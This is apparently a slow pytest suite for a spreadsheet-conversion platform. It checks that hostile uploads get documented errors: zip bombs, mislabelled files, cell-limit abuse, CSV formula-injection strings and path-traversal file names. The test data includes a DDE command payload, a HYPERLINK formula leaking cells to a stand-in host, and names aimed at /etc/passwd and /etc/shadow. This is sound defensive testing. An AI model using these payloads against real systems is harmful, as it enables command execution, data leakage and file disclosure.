"""Hostile files: each gets its documented error, and nothing else happens.

Documented codes: docs/configuration.md (Errors, Limits). The platform's
transformer runs with MUTATE_LIMIT_MAX_CELLS=60000 (see conftest).
"""

from __future__ import annotations

import re
import uuid
from pathlib import Path
from typing import Any

import grpc
import httpx
import pytest

from mutate.client import ApiError
from mutate.devstack.harness import PlatformHarness
from mutate.v1 import configuration_pb2

from ..faults.support import Job, TenantClient
from . import files
from .conftest import MAX_CELLS

pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parents[2]
CORPUS = REPO.parent / "shared" / "corpus" / "files"


def _xlsx_configuration(tenant: TenantClient, **output: Any) -> str:
    configuration = configuration_pb2.Configuration(
        name=f"xlsx {uuid.uuid4().hex[:6]}",
        conversion_type=configuration_pb2.XLSX_TO_CSV,
        output_format=configuration_pb2.OutputFormat(
            type=configuration_pb2.OutputFormat.CSV, **output
        ),
    )
    return tenant.client.create_configuration(configuration).id


def _run(
    tenant: TenantClient, data: bytes, name: str, configuration_id: str, mode: str
) -> Job:
    job = tenant.client.submit(data, configuration_id, file_name=name, mode=mode)  # type: ignore[arg-type]
    return tenant.client.wait(job.id, timeout=120)


def _output(tenant: TenantClient, job_id: str) -> str:
    download = tenant.client.get_download(job_id)
    return httpx.get(download.url, timeout=30).content.decode()


@pytest.mark.parametrize("mode", ["auto", "async"])
@pytest.mark.parametrize("lie", [False, True], ids=["honest", "lying-headers"])
def test_zip_bomb_is_refused(tenant: TenantClient, mode: str, lie: bool) -> None:
    bomb, expanded = files.zip_bomb(lie=lie)
    assert len(bomb) < 4 * 1024 * 1024 and expanded > 3 * 10**9
    configuration_id = _xlsx_configuration(tenant)
    job = _run(tenant, bomb, "bomb.xlsx", configuration_id, mode)
    assert job.status == Job.FAILED, job
    # Honest sizes: refused from the zip directory before anything is read.
    # Lying sizes: reading stops at the size claimed; the CRC then fails.
    expected = "INVALID_FILE" if lie else "LIMIT_EXCEEDED"
    assert job.error.code == expected, job.error
    assert not job.error.retryable


def test_empty_and_blank_files(tenant: TenantClient) -> None:
    # 0 bytes: refused by the gateway before anything is stored.
    with pytest.raises(ApiError) as empty:
        tenant.client.submit(b"", tenant.configuration_id, file_name="empty.csv")
    assert empty.value.code == grpc.StatusCode.INVALID_ARGUMENT
    assert empty.value.reason == "EMPTY_FILE"
    # Blank text: the engine's EMPTY_FILE.
    job = _run(tenant, b"  \n\n \r\n", "blank.csv", tenant.configuration_id, "auto")
    assert (job.status, job.error.code) == (Job.FAILED, "EMPTY_FILE"), job
    # An upload left empty (a presigned PUT of 0 bytes).
    upload = tenant.client.create_upload("empty.csv")
    put = httpx.put(upload.url, content=b"", headers=dict(upload.headers), timeout=30)
    assert put.status_code == 200, put.text
    request = tenant.client.jobs.CreateJob
    with pytest.raises(grpc.RpcError) as from_upload:
        request(
            _create_request(tenant.configuration_id, upload_id=upload.id),
            metadata=tenant.client._metadata,
        )
    assert from_upload.value.code() in (
        grpc.StatusCode.INVALID_ARGUMENT,
        grpc.StatusCode.FAILED_PRECONDITION,
    )


def _create_request(configuration_id: str, **fields: Any) -> Any:
    from mutate.v1 import public_api_pb2

    return public_api_pb2.CreateJobRequest(configuration_id=configuration_id, **fields)


def test_png_named_xlsx(tenant: TenantClient) -> None:
    configuration_id = _xlsx_configuration(tenant)
    for mode in ("auto", "async"):
        job = _run(tenant, files.PNG * 20, "photo.xlsx", configuration_id, mode)
        assert (job.status, job.error.code) == (Job.FAILED, "WRONG_FILE_TYPE"), job
        assert "photo.xlsx" in job.error.message


def test_more_cells_than_the_limit_versus_a_huge_declared_dimension(
    tenant: TenantClient,
) -> None:
    configuration_id = _xlsx_configuration(tenant)
    # Really holds 70,000 cells (> 60,000): refused, whatever it declares.
    dense = files.dense_workbook(700, 100)
    assert len(dense) < 1024 * 1024
    job = _run(tenant, dense, "dense.xlsx", configuration_id, "auto")
    assert (job.status, job.error.code) == (Job.FAILED, "LIMIT_EXCEEDED"), job
    assert "max_cells" in job.error.message and str(MAX_CELLS) in job.error.message
    # Declares A1:XFD1048576 (17 billion cells) but holds three rows.
    declared = files.workbook(
        [["name", "amount"], ["alice", 1], ["bob", 2]], dimension="A1:XFD1048576"
    )
    job = _run(tenant, declared, "declared.xlsx", configuration_id, "auto")
    assert job.status == Job.COMPLETED, job
    assert job.output_rows == 2
    assert _output(tenant, job.id).splitlines() == ["name,amount", "alice,1", "bob,2"]
    # The real-world one: gnumeric's A1:XFD1048576 with 49,174 cell elements
    # (a last row of empty styled cells) and two data rows.
    corpus = CORPUS / "calamine_issue_174.xlsx"
    if not corpus.is_file():
        pytest.skip(f"corpus file {corpus} not found")
    job = _run(tenant, corpus.read_bytes(), "issue_174.xlsx", configuration_id, "async")
    assert job.status == Job.COMPLETED, job
    assert job.output_rows == 1


INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]


@pytest.mark.parametrize("neutralize", [False, True], ids=["as-is", "neutralized"])
def test_formula_injection_strings_in_cells(
    tenant: TenantClient, neutralize: bool
) -> None:
    rows = [["name", "payload"], *[[f"r{i}", s] for i, s in enumerate(INJECTIONS)]]
    xlsx_id = _xlsx_configuration(tenant, neutralize_formulas=neutralize)
    job = _run(tenant, files.workbook(rows), "inject.xlsx", xlsx_id, "auto")
    assert job.status == Job.COMPLETED, job
    text = _output(tenant, job.id)
    import csv
    import io

    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == ["name", "payload"]
    got = [row[1] for row in parsed[1:]]
    if neutralize:
        # Every cell a spreadsheet would run gets a leading quote.
        assert got == ["'" + s for s in INJECTIONS], got
    else:
        # Never evaluated or mangled: the text as it was.
        assert got == INJECTIONS, got


PATH_NAMES = [
    "../../etc/passwd.xlsx",
    "..\\..\\windows\\system32\\config.xlsx",
    "/etc/shadow.xlsx",
    "a/../../../b.xlsx",
    "C:\\temp\\..\\x.xlsx",
    "\u202eslx.exe.xlsx",
    "nul\x00byte.xlsx",
    "./.hidden.xlsx",
    "x" * 400 + ".xlsx",
]
_KEY = re.compile(r"^(uploads|input|output)/(org_[a-z0-9]+)/[^/]+/[^/]+$")


def test_path_like_file_names_stay_in_their_prefix(
    tenant: TenantClient, abuse_platform: PlatformHarness
) -> None:
    configuration_id = _xlsx_configuration(tenant)
    book = files.workbook([["name"], ["alice"]])
    made = []
    for name in PATH_NAMES:
        job = _run(tenant, book, name, configuration_id, "auto")
        assert job.status == Job.COMPLETED, (name, job)
        for stored in (job.input_file_name, job.output_file_name):
            assert "/" not in stored and "\\" not in stored and "\x00" not in stored
            assert not stored.startswith(".") and ".." not in stored, stored
            assert len(stored.encode()) <= 255
        made.append(job.id)
    # Over REST multipart, and through a presigned upload.
    response = httpx.post(
        f"{abuse_platform.rest_url}/v1/jobs",
        headers={"Authorization": f"Bearer {tenant.api_key}"},
        data={"configurationId": configuration_id},
        files={"file": ("../../etc/passwd.xlsx", book)},
        timeout=60,
    )
    assert response.status_code == 200, response.text
    assert response.json()["inputFileName"] == "passwd.xlsx"
    upload = tenant.client.create_upload("../../../etc/passwd.xlsx")
    assert upload.file_name == "passwd.xlsx"
    assert "/etc/" not in upload.url and "%2F..%2F" not in upload.url
    # A name that is nothing but a path is refused.
    for name in ("..", "../..", "/", " . "):
        with pytest.raises(ApiError) as refused:
            tenant.client.submit(book, configuration_id, file_name=name)
        assert refused.value.code == grpc.StatusCode.INVALID_ARGUMENT, name
    # Every object the organization has is where it belongs.
    s3 = abuse_platform.s3.client()
    keys = [
        o.object_name
        for o in s3.list_objects(abuse_platform.bucket, recursive=True)
        if tenant.org_id in o.object_name
    ]
    assert len(keys) >= 2 * len(made)
    for key in keys:
        match = _KEY.match(key)
        assert match and match.group(2) == tenant.org_id, key
        assert "/../" not in key and "/./" not in key and "\\" not in key, key
